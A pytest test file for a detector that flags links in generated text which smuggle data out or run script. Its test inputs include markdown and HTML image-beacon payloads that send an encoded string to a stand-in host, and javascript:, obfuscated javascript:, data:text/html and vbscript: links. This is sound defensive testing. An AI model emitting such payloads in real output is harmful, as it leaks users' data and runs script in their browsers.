from __future__ import annotations

import pytest
from support.samples import GOOD, GOOD_GENERAL, order

from aicity_fleet.team.gate import check

PAYLOAD = "Zk9xQ2JvUm1tZ1ZpYzR0ZEd4N3lMc2pXcU5hUHVoS0VlVDFyQnc1"


def found(text, task=None):
    return {
        f.check for f in check("general", f"{GOOD_GENERAL}\n\n{text}", task or order()).findings
    }


@pytest.mark.parametrize(
    "text",
    [
        f"![](https://x.example/p.png?d={PAYLOAD})",
        f"![a][b]\n\n[b]: https://x.example/p.png?d={PAYLOAD}",
        f"![](https://x.example/{PAYLOAD}.png)",
        f"![](https://{PAYLOAD.lower()}.x.example/p.png)",
        f'<img width=1 src="https://x.example/?{PAYLOAD}">',
        f"<p style='background:url(https://x.example/?{PAYLOAD})'>",
        f"[more](https://x.example/?q={PAYLOAD})",
        f"[more](https://x.example/#{PAYLOAD})",
        f"https://x.example/?q={PAYLOAD}",
        f"![](//x.example/?{PAYLOAD})",
        "![](https://x.example/?q=" + "%20the%20lighthouse%20key" * 6 + ")",
        "[go](javascript:alert(1))",
        "[go](JaVa&#115;cript:alert(1))",
        "[go](data:text/html;base64,PHA+)",
        "<a href='javascript:alert(1)'>go</a>",
        "[go]: vbscript:x",
    ],
)
def test_an_address_that_carries_or_runs_is_returned(text):
    assert found(text) & {"carries", "runs_code"}


@pytest.mark.parametrize(
    "text",
    [
        "[The museum](https://lighthouses.example/en/collection)",
        "https://scholar.example/scholar?q=lighthouse+navigation+history&hl=en&as_sdt=0%2C5&as_ylo=2015",
        "[code](https://git.example/a/b/blob/3f786850e387550fdab836ed7e6dc881de23001b/src/mean.py#L10-L20)",
        "[doc](https://docs.example/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0)",
        "[paper](https://doi.org/10.1145/3597503.3639187)",
        "[video](https://video.example/watch?v=dQw4w9WgXcQ&t=42s)",
        "![badge](https://img.shields.io/badge/coverage-95%25-brightgreen)",
        "![build](https://git.example/org/repository/actions/workflows/continuous-integration.yml/badge.svg)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        "[top](#lighthouses) and [mail](mailto:a@b.example)",
        f"`![](https://x.example/?d={PAYLOAD})` is how a pixel looks.",
        f"```html\n<img src='https://x.example/?d={PAYLOAD}'>\n<a href='javascript:void(0)'>x</a>\n```",
        "[CamelCase](https://wiki.example/LighthouseCollectionOfScotland?search=LighthouseCollectionOfScotland)",
        "https://shop.example/?utm_source=newsletter&utm_medium=email&utm_campaign=lighthouse_keepers_2026",
        "https://x.example/?id=9f1c2a34-5b6d-4e7f-8a90-b1c2d3e4f506",
        "[broken](https://[x)",
    ],
)
def test_an_honest_address_is_left_alone(text):
    assert found(text) == set()


def test_an_address_that_the_order_holds_is_the_buyer_s():
    address = f"https://x.example/p.png?d={PAYLOAD}"
    for parts in ({"repo": address}, {"details": {"logo": address}}, {"code": f"# {address}\n"}):
        assert "carries" not in found(f"![]({address})", order(**parts))
    assert "carries" in found(f"![]({address}{PAYLOAD})", order(repo=address))


@pytest.mark.parametrize("task_type", sorted(GOOD))
def test_honest_work_points_nowhere_odd(task_type):
    task, text = GOOD[task_type]
    assert not {"carries", "runs_code"} & {f.check for f in check(task_type, text, task).findings}
